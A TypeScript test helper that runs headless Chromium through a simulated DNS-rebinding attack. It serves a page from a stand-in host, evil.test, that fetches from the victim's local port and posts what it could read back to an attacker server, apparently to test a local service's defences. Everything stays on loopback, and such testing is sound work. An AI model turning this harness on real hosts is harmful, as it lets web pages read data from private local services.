import { spawn, spawnSync } from 'node:child_process';
import { mkdtempSync, rmSync } from 'node:fs';
import { createServer, request as send, type IncomingMessage } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';

const OUTSIDE = '127.0.0.2';
const FLAGS = [
  '--headless',
  '--no-sandbox',
  '--disable-gpu',
  '--no-first-run',
  '--disable-background-networking',
  '--disable-component-update',
  '--disable-sync',
  '--disable-dev-shm-usage',
];

/** Debian's name and others'. Undefined where there is none. */
export const chromium = ['chromium', 'chromium-browser', 'google-chrome'].find(
  (name) => spawnSync(name, ['--version'], { stdio: 'ignore' }).status === 0,
);

/** What a page tries, one after the other. */
export interface Attempt {
  readonly url: string;
  readonly init: object;
}

/**
 * Opens a page of evil.test in Chromium, whose name then comes to mean this machine (DNS rebinding): the attacker's server
 * hands on whatever else the page asks of its own host, name and all, to the same port of 127.0.0.1. Resolves with what
 * the page could read of each attempt.
 */
export async function readFromReboundPage(port: number, attempts: readonly Attempt[]): Promise<readonly string[]> {
  const profile = mkdtempSync(join(tmpdir(), 'chromium-'));
  let report: (seen: readonly string[]) => void = () => undefined;
  const reported = new Promise<readonly string[]>((resolve) => (report = resolve));
  const attacker = createServer((request, response) => {
    if (request.url === '/page') {
      response.setHeader('Content-Type', 'text/html').end(pageOf(attempts));
    } else if (request.url === '/report') {
      void textOf(request).then((text) => report(JSON.parse(text) as string[]));
      response.end();
    } else {
      const { method, url: path, headers } = request;
      const onward = send({ host: '127.0.0.1', port, method, path, headers }, (answer) => {
        response.writeHead(answer.statusCode ?? 0, answer.headers);
        answer.pipe(response);
      });
      request.pipe(onward);
    }
  });
  await new Promise<void>((resolve) => attacker.listen(port, OUTSIDE, resolve));
  const rules = `--host-resolver-rules=MAP evil.test ${OUTSIDE}`;
  const flags = [...FLAGS, rules, `--user-data-dir=${profile}`, `http://evil.test:${port}/page`];
  const browser = spawn(chromium ?? '', flags, { stdio: 'ignore', detached: true });
  const gone = new Promise<void>((resolve) => browser.once('close', () => resolve()));
  try {
    return await Promise.race([
      reported,
      gone.then(() => Promise.reject(new Error('Chromium ended before the page had reported.'))),
    ]);
  } finally {
    // Its whole process group: the browser has children of its own.
    if (browser.pid !== undefined && browser.exitCode === null) process.kill(-browser.pid, 'SIGKILL');
    await gone;
    attacker.closeAllConnections();
    await new Promise((resolve) => attacker.close(resolve));
    rmSync(profile, { recursive: true, force: true, maxRetries: 5 });
  }
}

const pageOf = (attempts: readonly Attempt[]): string => `<!doctype html><script>
const attempts = ${JSON.stringify(attempts)};
const read = ({ url, init }) => fetch(url, init).then((answer) => answer.text()).catch((error) => 'no answer: ' + error.message);
(async () => {
  const seen = [];
  for (const attempt of attempts) seen.push(await read(attempt));
  await fetch('/report', { method: 'POST', body: JSON.stringify(seen) });
})();
</script>`;

async function textOf(request: IncomingMessage): Promise<string> {
  const chunks: Buffer[] = [];
  for await (const chunk of request as AsyncIterable<Buffer>) chunks.push(chunk);
  return Buffer.concat(chunks).toString();
}
